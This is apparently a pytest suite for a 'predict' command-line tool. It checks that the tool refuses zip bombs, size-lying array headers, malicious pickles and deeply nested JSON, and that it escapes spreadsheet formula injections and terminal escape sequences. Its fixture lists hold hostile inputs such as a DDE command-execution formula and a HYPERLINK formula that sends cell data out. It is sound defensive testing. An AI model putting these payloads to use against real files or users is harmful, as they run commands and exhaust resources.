"""`tinygrad-edu predict`, and the files of models."""

import csv
import io
import json
import os
import subprocess
import tracemalloc
import warnings
import zipfile
from functools import cache
from pathlib import Path

import numpy as np
import pytest

from tests.cli_helpers import COMMAND, ENVIRONMENT, called, refused, run, trained, write_table
from tinygrad_edu.cli import files as cli_files


@pytest.fixture(autouse=True)
def _elsewhere(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def model():
    write_table()
    trained()
    return Path("model.npz")


def test_predicting_needs_the_columns_trained_on(model):
    Path("new.csv").write_text("length,colour\n1,2\n")
    refused("predict", model, "new.csv", saying='"new.csv" lacks "width"')


def test_predicting_refuses_values_beyond_floating_point():
    Path("data.csv").write_text("a,y\n" + "".join(f"{i}e-290,{i}\n" for i in range(20)))
    trained("--activation", "relu", target="y")
    Path("new.csv").write_text("a\n1e-290\n1e100\n")
    refused("predict", "model.npz", "new.csv", saying='"new.csv", row 3: its values are too far')


def test_predicting_refuses_bad_cells(model):
    Path("new.csv").write_text("length,width\n1,2\n3,x\n")
    refused("predict", model, "new.csv", saying='row 3, column "width": "x" is not a number')
    Path("new.csv").write_text("length,width\n1,\n")
    refused("predict", model, "new.csv", saying='row 2, column "width" is empty')


@pytest.mark.parametrize("name", ["data.csv", "model.npz"])
def test_predictions_do_not_replace_their_input(model, name):
    refused("predict", model, "data.csv", "--out", name, saying="would replace the input file")


def test_predictions_need_a_place(model):
    refused("predict", model, "data.csv", "--out", "no/p.csv", saying="does not exist; create it")
    refused("predict", "none.npz", "data.csv", saying="there is no such file")
    refused("predict", model, "none.csv", saying="there is no such file")


def test_a_file_that_is_no_model_is_refused(model):
    np.savez("other.npz", a=1)
    np.save("array.npy", np.arange(3))
    np.savez("pickled.npz", about=np.array({"a": print}, dtype=object))
    Path("empty.npz").touch()
    for path in ("other.npz", "array.npy", "pickled.npz", "empty.npz", "data.csv"):
        refused("predict", path, "data.csv", saying="is not a model saved by tinygrad-edu train")


def resaved(change, **arrays):
    """The model with some of what it says about itself, and some arrays, changed."""
    with np.load("model.npz") as file:
        contents = dict(file)
    about = json.loads(str(contents["about"]))
    about.update(change)
    contents.update(arrays)
    np.savez("changed.npz", **{**contents, "about": np.array(json.dumps(about))})
    return "changed.npz"


def test_a_model_of_another_version_is_refused(model):
    refused("predict", resaved({"version": 2}), "data.csv", saying=["format 2", "upgrade"])


@pytest.mark.parametrize(
    "change",
    [
        {"features": ["length"]},
        {"features": None},
        {"classes": ["ash"]},
        {"classes": None},
        {"classes": ["\ud800", "oak"]},
        {"features": ["length", "\udfff"]},
        {"target": "\ud800"},
        {"sizes": [2, 10**12, 2]},
        {"sizes": []},
        {"sizes": "many"},
        {"activation": "cube"},
        {"activation": None},
    ],
)
def test_a_damaged_model_is_refused(model, change):
    refused("predict", resaved(change), "data.csv", saying="is a damaged model")


@pytest.mark.parametrize("name", ["means", "network.layers.0.bias"])
@pytest.mark.parametrize("value", [np.array("text"), np.full(16, np.nan), np.zeros(0)])
def test_a_model_with_damaged_arrays_is_refused(model, name, value):
    refused("predict", resaved({}, **{name: value}), "data.csv", saying="is a damaged model")


def test_a_model_with_any_byte_changed_is_used_or_refused_in_one_line(model):
    whole = model.read_bytes()
    rng = np.random.default_rng(0)
    for place in rng.integers(0, len(whole), 60):
        changed = bytearray(whole)
        changed[place] ^= 0xFF
        Path("changed.npz").write_bytes(changed)
        result = run("predict", "changed.npz", "data.csv")
        assert result.exit_code in (0, 2), result.exception
        assert result.stderr.count("\n") == (result.exit_code == 2)
    Path("changed.npz").write_bytes(whole[: len(whole) // 2])
    refused("predict", "changed.npz", "data.csv", saying="is not a model")


def packed(members, path="bomb.npz", method=zipfile.ZIP_DEFLATED):
    """An archive of members with these contents, by name or in pairs."""
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w", method) as file:
        warnings.simplefilter("ignore")  # of names that stand there twice
        for name, content in members.items() if isinstance(members, dict) else members:
            file.writestr(name, content)
    return path


def npy(array, shape=None, version=None):
    """The file of an array, which may claim to have another shape."""
    file = io.BytesIO()
    array = np.asarray(array)
    if shape is None:
        np.lib.format.write_array(file, array, version)
        return file.getvalue()
    told = str({"descr": array.dtype.str, "fortran_order": False, "shape": shape}) + "\n"
    header = b"\x93NUMPY\x01\x00" + len(told).to_bytes(2, "little") + told.encode()
    return header + array.tobytes()


def contents():
    with np.load("model.npz") as file:
        return {f"{name}.npy": npy(array) for name, array in file.items()}


def peak(*arguments):
    """The most memory that a call allocates, in bytes."""
    tracemalloc.start()
    try:
        refused(*arguments)
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@cache
def zeros():
    return npy(np.zeros(5_000_000))


@pytest.mark.parametrize(
    "member", ["about.npy", "means.npy", "network.layers.0.weights.npy", "more.npy", "a/../b"]
)
def test_what_unpacks_to_far_more_is_refused_before_it_does(model, member):
    packed(contents() | {member: zeros()})
    assert Path("bomb.npz").stat().st_size < 60_000
    refused("predict", "bomb.npz", "data.csv", saying="would unpack to 40 MB, which no saved")
    assert peak("predict", "bomb.npz", "data.csv") < 5_000_000


def test_what_says_that_it_is_smaller_is_refused_before_it_unpacks(model):
    packed(contents() | {"means.npy": zeros()})
    content = Path("bomb.npz").read_bytes()
    told, lie = len(zeros()).to_bytes(4, "little"), (200).to_bytes(4, "little")
    assert content.count(told) == 2
    Path("bomb.npz").write_bytes(content.replace(told, lie))
    assert peak("predict", "bomb.npz", "data.csv") < 5_000_000


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_methods_that_unpack_without_a_bound_are_refused(model, method):
    packed(contents(), method=method)
    refused("predict", "bomb.npz", "data.csv", saying="is not a model saved by")


@pytest.mark.parametrize(
    "shape", [(10**12,), (2**62, 8), (-1, -2), (3,), (True,), (1.0,), ("a",), (0, 10**18)]
)
def test_headers_that_lie_are_refused(model, shape):
    packed(contents() | {"means.npy": npy(np.zeros(2), shape)})
    refused("predict", "bomb.npz", "data.csv")
    assert peak("predict", "bomb.npz", "data.csv") < 5_000_000


def test_other_archives_are_refused(model):
    class Hurt:
        def __reduce__(self):
            return open, ("hurt.txt", "w")

    file = io.BytesIO()
    np.save(file, np.array([Hurt()], dtype=object), allow_pickle=True)
    deep = json.loads(str(np.load("model.npz")["about"])) | {"sizes": 0}
    deep = json.dumps(deep).replace('"sizes": 0', '"sizes": ' + "[" * 100_000 + "]" * 100_000)
    for change in (
        {"means.npy": file.getvalue()},
        {"about.npy": file.getvalue()},
        {"about.npy": npy(np.array(deep))},
        {"about.npy": npy(np.array("9" * 10_000))},
        {"about.npy": npy(np.array(["a", "b"]))},
        {"about.npy": b""},
        {"means.npy": b"\x93NUMPY"},
        {"means.npy": npy(np.zeros(2))[:-1]},
        {"means.npy": npy(np.zeros(2)) + b"more"},
        {"means.npy": npy(np.zeros(2)).replace(b"<f8", b"|O8")},
        {"means.npy": npy(np.zeros(2)).replace(b"'<f8'", b"print")},
        {"means.npy": npy(np.zeros(2)).replace(b"(2,)", b"(2,)" * 2)},
        {"means.npy": npy(np.zeros(2)).replace(b"\x01\x00", b"\x09\x00", 1)},
        {f"{k}.npy": npy(np.zeros(1)) for k in range(10_000)},
    ):
        packed(contents() | change)
        refused("predict", "bomb.npz", "data.csv")
    packed([*contents().items(), ("means.npy", npy(np.ones(2)))])
    refused("predict", "bomb.npz", "data.csv", saying="is not a model saved by")
    whole = Path("model.npz").read_bytes()
    for length in (0, 1, 22, len(whole) - 1, len(whole) - 30):
        Path("bomb.npz").write_bytes(whole[:length])
        refused("predict", "bomb.npz", "data.csv", saying="is not a model saved by")
    assert not Path("hurt.txt").exists()


def test_models_that_were_packed_by_others_are_read(model):
    expected = run("predict", model, "data.csv").stdout
    with np.load("model.npz") as file:
        arrays = dict(file)
    np.savez_compressed("packed.npz", **arrays)
    np.savez("turned.npz", **{name: np.asarray(each, order="F") for name, each in arrays.items()})
    packed({f"{name}.npy": npy(each, version=(2, 0)) for name, each in arrays.items()}, "two.npz")
    for path in ("packed.npz", "turned.npz", "two.npz"):
        assert run("predict", path, "data.csv").stdout == expected


def test_files_without_an_end_are_refused(model, monkeypatch):
    monkeypatch.setattr(cli_files, "LARGEST_FILE", 5_000_000)
    Path("large.csv").write_bytes(b"a,b\n" + b"1,2\n" * 2_000_000)
    for path in ["large.csv", *(["/dev/zero"] if Path("/dev/zero").exists() else [])]:
        refused("predict", path, "data.csv", saying="has over 0.005 GB")
        refused("predict", model, path, saying="has over 0.005 GB")


FORMULAS = [
    *("@SUM(1)", "=1+1", "=cmd|'/C calc'!A0", "+1+1", "-1+1", "-2-3", "+SUM(1)", "-low", "+high"),
    *("＝SUM(1)", "＠SUM(1)", "＋1", "－1", "=", "==", "@", "@home", "-=1", "+1e", "-1e5+SUM(1)"),
    *("--=1", "-.", "−SUM(1)", "-1;=2", '=HYPERLINK("http://a/"&A1,"b")'),
]
HONEST = [
    *("-1", "+1", "-1.5", "-.5", "+1e-5", "-1,5", "-1.000,5", "-5%", "-", "+", "--", "+++", "1"),
    *("'oak'", "a=b", "a@b", "1-2", "a+", "O'Neil", "π", "«a»", "-1."),
]


def test_formulas_are_written_so_that_no_spreadsheet_runs_them(model):
    for name in FORMULAS:
        assert classes_written(name) == ("'" + name, "oak"), name


def test_what_is_no_formula_is_written_as_it_is(model):
    for name in HONEST:
        assert classes_written(name) == (name, "oak"), name


def rows_of(path):
    return [row[0] for row in csv.reader(io.StringIO(Path(path).read_text("utf-8")))]


def classes_written(name):
    """The names of the two classes in predictions by a model in which one is called so."""
    result = called("predict", resaved({"classes": [name, "oak"]}), "data.csv", "--out", "p.csv")
    header, *found = rows_of("p.csv")
    assert header == "predicted_kind"
    first, second = dict.fromkeys(found)
    assert ("Note: a spreadsheet would run" in result.stderr) == (first != name)
    return first, second


def test_negative_numbers_as_classes_survive_a_round_trip():
    Path("data.csv").write_text(
        "x,kind\n" + "".join(f"{k},{(-1, 1)[k >= 10]}\n" for k in range(20))
    )
    for _ in range(2):
        trained("--classify")
        called("predict", "model.npz", "data.csv", "--out", "p.csv")
        kinds = rows_of("p.csv")[1:]
        assert set(kinds) == {"-1", "1"}
        Path("data.csv").write_text(
            "x,kind\n" + "".join(f"{k},{kind}\n" for k, kind in enumerate(kinds))
        )


def test_a_terminal_does_not_obey_what_a_class_is_called(model):
    import pty

    path = resaved({"classes": ["\x1b]0;title\x07\x1b[2Jash", "o\u202eak"]})
    terminal, end = pty.openpty()
    done = subprocess.run(
        [*COMMAND, "predict", path, "data.csv"], stdout=end, stderr=end, env=ENVIRONMENT
    )
    os.close(end)
    shown = b""
    try:
        while part := os.read(terminal, 65536):
            shown += part
    except OSError:  # the other end is closed
        pass
    os.close(terminal)
    assert done.returncode == 0
    assert b"\x1b" not in shown
    assert rb"\x1b]0;title\x07" in shown
    piped = run("predict", path, "data.csv").stdout
    assert "\x1b]0;title" in piped  # whoever reads it gets what is so
